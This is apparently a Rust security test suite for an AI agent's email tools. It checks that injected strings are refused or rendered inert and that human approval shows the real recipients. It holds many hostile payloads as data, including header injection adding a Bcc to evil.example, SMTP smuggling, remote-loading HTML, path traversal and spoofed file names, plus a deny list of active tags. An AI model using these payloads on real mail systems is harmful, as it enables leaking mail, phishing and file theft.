//! Attack strings, by every way in: what is not refused is inert in what a person is shown, in the
//! message as another program reads it, in what is read back, and in the record.

use std::os::unix::ffi::OsStrExt as _;
use std::process::Command;

use serde_json::{Value, json};
use servers::mail::{AGENT, BOSS};
use tests::harness::acting::{drafted, submission};
use tests::harness::{Session, text};

use super::{Far, World, has, with};
use crate::hostile::{KINDS, Kind, is_hidden, on_terminal, unfenced};

/// What mail can be attacked by besides.
const MAIL: &[Kind] = &[
    Kind {
        name: "headers",
        texts: &[
            "x\r\nBcc: eve@evil.example",
            "x\nX-Priority: 1",
            "x\rTo: eve@evil.example",
            "x\u{85}Bcc: eve@evil.example",
            "x\u{2028}Bcc: eve@evil.example",
            "x\r\n\r\n<img src=https://evil.example/p.gif>",
            "x\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA",
            ".\r\n..\r\n.x",
            "From eve@evil.example Thu Jan  1 00:00:00 1970\n\nx",
            "=?utf-8?q?x=0D=0ABcc:_eve=40evil.example?=",
        ],
    },
    Kind {
        name: "parts",
        texts: &[
            "--=_0123456789abcdef\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
            "--boundary--",
            "\r\n--b\r\nContent-Disposition: attachment; filename=x.exe\r\n\r\nMZ",
            "Content-Type: text/html\r\n\r\n<b>x</b>",
            "begin 644 x.exe\nM35I0\n`\nend",
            "\"; boundary=\"x",
        ],
    },
    Kind {
        name: "remote",
        texts: &[
            "<img src=\"https://evil.example/p.gif\" width=1 height=1>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<div style=\"background:url(https://evil.example/p.gif)\">x</div>",
            "<table background=https://evil.example/p.gif><tr><td>x</table>",
            "<video poster=https://evil.example/p.gif src=//evil.example/v>",
            "<form action=https://evil.example/><input name=password></form>",
            "<base href=https://evil.example/><a href=login>x</a>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<object data=https://evil.example/x> <embed src=https://evil.example/x>",
            "[x](file:///etc/passwd) [x](//evil.example) [x](tel:1) [x](cid:1) [x](ftp://evil.example)",
            "![x](cid:part1) ![x](data:image/png;base64,AAAA)",
        ],
    },
    Kind {
        name: "files",
        texts: &[
            "../../etc/passwd",
            "report.pdf\u{202e}fdp.exe",
            "a\"; filename=\"b.exe",
            "a\r\nContent-Type: text/html",
            "utf-8''..%2F..%2Fx",
            "=?utf-8?q?x.exe?=",
            "COM1 .exe .",
            "x\u{200b}.pdf.exe",
            "-rf",
            "~/.ssh/authorized_keys",
            "übersicht (1) – März.pdf",
            "a'b;c=d, e&f.txt",
        ],
    },
];

/// Keys of the account: a form, files, an answer's address.
const ACCOUNT: &str = "attachments = [\"files\"]\nper_day = 1000\nmost_recipients = 50\n\
    [servers.mail.accounts.work.templates.report]\nsubject = \"Report: {summary}\"\n\
    body = \"What: {what}\\n\\n{why}\"\n\
    [servers.mail.accounts.work.templates.report.values]\nsummary = { max = 200 }\n\
    what = { kind = \"text\", max = 2000 }\nwhy = { kind = \"text\", max = 2000 }\n";

/// The fields that a message may have, at most once each.
const FIELDS: &[&str] = &[
    "date",
    "from",
    "to",
    "cc",
    "bcc",
    "subject",
    "message-id",
    "in-reply-to",
    "references",
    "x-suite-marker",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
];

struct Attack {
    world: World,
    session: Session,
    /// How many calls were refused.
    refused: usize,
}

fn kinds() -> impl Iterator<Item = &'static Kind> {
    KINDS.iter().chain(MAIL)
}

fn one_line(text: &str) -> String {
    text.replace(['\n', '\r'], " ").chars().take(150).collect()
}

/// Arguments of a draft to the boss.
fn mail(more: &Value) -> Value {
    with(json!({"to": [BOSS.address], "reason": "because the test says so"}), more)
}

impl Attack {
    /// Calls a tool: whether it was done, and what the model reads, which is held to be harmless.
    fn say(&mut self, tool: &str, args: &Value) -> (bool, String) {
        let answer = self.session.call(tool, args.clone());
        let said = text(&answer).to_owned();
        let context = format!("{tool} {args}: {answer}");
        assert!(answer["error"].is_null() && !said.is_empty(), "{context}");
        assert!(!said.chars().any(is_hidden), "{context}");
        let done = answer["result"]["isError"] != true;
        let opened = said.matches("<untrusted source=\"").count();
        if done {
            assert_eq!(said.matches("</untrusted>").count(), opened, "{context}");
        } else if !said.starts_with("approval_needed: ") {
            let kinds = ["invalid: ", "denied: ", "not_found: "];
            assert!(kinds.iter().any(|kind| said.starts_with(kind)), "{context}");
            self.refused += 1;
        }
        (done, said)
    }

    /// Drafts; none where it was refused. What a person would be shown names nobody else.
    fn draft(&mut self, args: &Value) -> Option<String> {
        let (done, said) = self.say("mail_draft", args);
        if !done {
            return None;
        }
        let name = drafted(&said);
        let (done, preview) = self.say("mail_preview", &json!({"draft": name}));
        assert!(done, "{args}: {preview}");
        let envelopes: Vec<&str> =
            preview.lines().filter(|line| line.starts_with("envelope: ")).collect();
        assert_eq!(envelopes, ["envelope: agent@example.test to boss@example.test"], "{args}");
        Some(name)
    }

    /// Sends with a person's yes; holds that the person sees what the preview says.
    fn send(&mut self, name: &str) {
        let (_, preview) = self.say("mail_preview", &json!({"draft": name}));
        let preview = unfenced(&preview);
        let (_, asked) = self.say("mail_send", &submission(name));
        assert!(asked.starts_with("approval_needed: "), "{asked}");
        let seen = on_terminal(&self.world.approve(&asked).output);
        assert!(!seen.chars().any(is_hidden), "{seen:?}");
        for label in ["to: ", "envelope: ", "subject: ", "SHA-256 of envelope and bytes: "] {
            let line = preview.lines().find(|line| line.starts_with(label)).expect(label);
            assert!(seen.contains(line), "{line:?} is not in {seen}");
        }
        let (done, sent) = self.say("mail_send", &submission(name));
        assert!(done && sent.starts_with("sent: <"), "{sent}");
        let (_, verified) = self.say("mail_verify", &json!({"draft": name}));
        assert!(verified.contains("same bytes"), "{verified}");
    }

    /// Every string of a kind, by every way in that takes texts.
    fn drafts(&mut self, kind: &Kind) {
        for text in kind.texts {
            self.session = self.world.start();
            let plain = json!({"subject": "Plain words", "body": "x"});
            let body = with(mail(&plain), &json!({"body": text}));
            let _ = self.draft(&body);
            let subject = with(mail(&plain), &json!({"subject": text}));
            let taken = self.draft(&subject);
            let is_one = !text.chars().any(|c| is_hidden(c) || c == '\n');
            assert!(is_one || taken.is_none(), "a subject is one line: {text:?}");
            for to in [
                format!("{text} <{}>", BOSS.address),
                format!("\"{}\" <{}>", text.replace(['"', '\\'], "'"), BOSS.address),
            ] {
                let taken = self.draft(&with(mail(&plain), &json!({"to": [to]})));
                assert!(is_one || taken.is_none(), "a name is one line: {to:?}");
            }
            let values = json!({"summary": one_line(text), "what": text, "why": text});
            let form = json!({"template": "report", "fields": values});
            self.draft(&mail(&form));
            for tool in ["mail_preview", "mail_verify"] {
                let draft: String = text.chars().take(60).collect();
                let (done, said) = self.say(tool, &json!({"draft": draft}));
                assert!(!done, "{said}");
            }
            let reply: String = text.chars().take(900).collect();
            let (done, said) =
                self.say("mail_draft", &with(mail(&plain), &json!({"reply": reply})));
            assert!(!done || text.trim().is_empty(), "{said}");
        }
    }

    /// Files called so, and the names of files that are not there.
    fn files(&mut self, kind: &Kind) {
        for text in kind.texts {
            self.session = self.world.start();
            let short: String = text.chars().filter(|c| !"/\0".contains(*c)).take(60).collect();
            let folder = self.world.folder.path("files");
            std::fs::create_dir_all(&folder).expect("a folder");
            let name = std::ffi::OsStr::from_bytes(short.as_bytes());
            if !short.is_empty() && short != "." && short != ".." {
                std::fs::write(folder.join(name), "x").expect("a file");
            }
            let words = json!({"subject": "Files", "body": "x"});
            for path in [short.clone(), text.chars().take(400).collect()] {
                let taken = self.draft(&with(mail(&words), &json!({"attachments": [path]})));
                let is_plain = !path.chars().any(|c| is_hidden(c) || "\n\t\\".contains(c));
                assert!(is_plain || taken.is_none(), "{path:?}");
                if let Some(name) = taken.filter(|_| kind.name == "files") {
                    self.send(&name);
                }
            }
        }
    }

    /// A mail that came with all of it in every field, and the answer to it.
    fn answer(&mut self, kind: &Kind) {
        let texts = kind.texts.join("\n\n");
        let id = format!("hostile-{}-{}@evil.example", kind.name, std::process::id());
        let encoded = |text: &str| {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD.encode(text)
        };
        let bytes = format!(
            "From: =?utf-8?b?{name}?= <eve@evil.example>\r\nReply-To: eve@evil.example\r\n\
             Subject: =?utf-8?b?{name}?=\r\nMessage-ID: <{id}>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n\
             Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n\
             {body}\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b--\r\n",
            name = encoded(&one_line(kind.texts[0]).chars().take(40).collect::<String>()),
            body = encoded(&texts),
        );
        match &self.world.far {
            Far::Servers(dovecot, _) => {
                dovecot.append(AGENT.name, "INBOX", bytes.as_bytes(), &[]);
            }
            Far::Outbox => {
                let file = format!("state/mail/outbox/Inbox/new/{}", kind.name);
                self.world.folder.write(&file, &bytes);
            }
        }
        self.session = self.world.start();
        let args =
            json!({"reply": id, "body": format!("{texts}\n\nof {} under attack", kind.name)});
        let name = self.draft(&mail(&args));
        let name = name.unwrap_or_else(|| panic!("an answer to {} is drafted", kind.name));
        self.send(&name);
    }
}

/// What Python's parser makes of messages.
fn judged(world: &World, messages: &[Vec<u8>]) -> Vec<Value> {
    let mut command = Command::new("python3");
    command.arg("-c").arg(include_str!("hostile/judge.py"));
    for (nth, bytes) in messages.iter().enumerate() {
        let path = world.folder.path(&format!("arrived-{nth}"));
        std::fs::write(&path, bytes).expect("written");
        command.arg(path);
    }
    let output = command.output().expect("python3; cargo xtask test installs it");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// A message as it arrived: one letter to the boss, with nothing in it that acts.
fn inert(message: &Value) {
    let context = format!("{message:#}");
    let headers = message["headers"].as_array().expect("headers");
    let mut names: Vec<String> =
        headers.iter().map(|name| name.as_str().expect("a name").to_lowercase()).collect();
    assert!(names.iter().all(|name| FIELDS.contains(&name.as_str())), "{context}");
    names.sort();
    let count = names.len();
    names.dedup();
    assert_eq!(names.len(), count, "{context}");
    let addresses = &message["addresses"];
    assert_eq!(addresses["From"], json!(["agent@example.test"]), "{context}");
    assert_eq!(addresses["To"], json!(["boss@example.test"]), "{context}");
    for other in ["Cc", "Bcc", "Reply-To"] {
        assert_eq!(addresses[other], json!([]), "{context}");
    }
    let hidden = |text: &str| text.replace("\r\n", "\n").chars().any(is_hidden);
    assert!(!hidden(message["subject"].as_str().expect("a subject")), "{context}");
    assert!(!hidden(message["text"].as_str().expect("a text")), "{context}");
    for part in message["parts"].as_array().expect("parts") {
        let known = ["multipart/mixed", "multipart/alternative", "text/plain", "text/html"];
        let (kind, file) = (part[0].as_str().expect("a type"), part[1].as_str().expect("a name"));
        assert!(known.contains(&kind) || !file.is_empty(), "{context}");
        assert!(!hidden(file) && !file.contains(['/', '\\', '\n']), "{context}");
    }
    for tag in message["tags"].as_array().expect("tags") {
        let tag = tag.as_str().expect("a tag");
        let acts = [
            "img", "script", "style", "link", "iframe", "svg", "object", "embed", "video", "audio",
            "form", "input", "base", "meta", "source", "picture", "details", "button",
        ];
        assert!(!acts.contains(&tag), "<{tag}>: {context}");
    }
    for attribute in message["attributes"].as_array().expect("attributes") {
        let (name, value) = (attribute[0].as_str().expect("x"), attribute[1].as_str().expect("x"));
        let is_link =
            ["https://", "http://", "mailto:"].iter().any(|begin| value.starts_with(begin));
        let is_harmless = match name {
            "href" => is_link,
            name => {
                !name.starts_with("on")
                    && !["src", "style", "background", "srcset", "action", "poster", "data"]
                        .contains(&name)
            }
        };
        assert!(is_harmless, "{name}={value}: {context}");
    }
    assert_eq!(message["defects"], json!([]), "{context}");
    assert_eq!(message["bare"], json!(false), "{context}");
    assert!(message["longest"].as_u64().expect("a length") <= 998, "{context}");
}

fn under_attack(world: World) {
    let session = world.start();
    let mut attack = Attack { world, session, refused: 0 };
    for kind in kinds() {
        attack.drafts(kind);
        attack.files(kind);
        attack.answer(kind);
    }
    let arrived: Vec<Vec<u8>> =
        attack.world.arrived("Subject: ").into_iter().map(|one| one.bytes).collect();
    assert!(arrived.len() > kinds().count(), "{}", arrived.len());
    for message in judged(&attack.world, &arrived) {
        inert(&message);
    }
    if let Far::Servers(_, sink) = &attack.world.far {
        for one in sink.received() {
            assert_eq!(one.mail_from, "agent@example.test");
            assert_eq!(one.rcpt_to, ["boss@example.test"]);
        }
        assert_eq!(sink.violations(), Vec::<String>::new());
    }
    recorded(&attack);
}

/// Every refusal is on record, and the record can be read.
fn recorded(attack: &Attack) {
    let records = attack.world.folder.records("mail");
    let is_refusal = |record: &&Value| {
        ["invalid", "denied", "failed"].iter().any(|outcome| record["outcome"] == *outcome)
    };
    assert_eq!(records.iter().filter(is_refusal).count(), attack.refused);
    let mut command = Command::new(tests::harness::suite());
    command.args(["audit", "search", "--limit", "0", "--config"]).arg(attack.world.folder.config());
    let output = command.output().expect("the product runs");
    assert!(output.status.success(), "{output:?}");
    let shown = String::from_utf8(output.stdout).expect("UTF-8");
    assert_eq!(shown.chars().find(|c| is_hidden(*c)), None);
    assert!(has(shown.as_bytes(), "mail_send"));
}

#[test]
fn into_the_folder_on_this_machine() {
    under_attack(World::outbox(ACCOUNT));
}

#[test]
fn by_imap_and_smtp() {
    under_attack(World::servers(ACCOUNT));
}
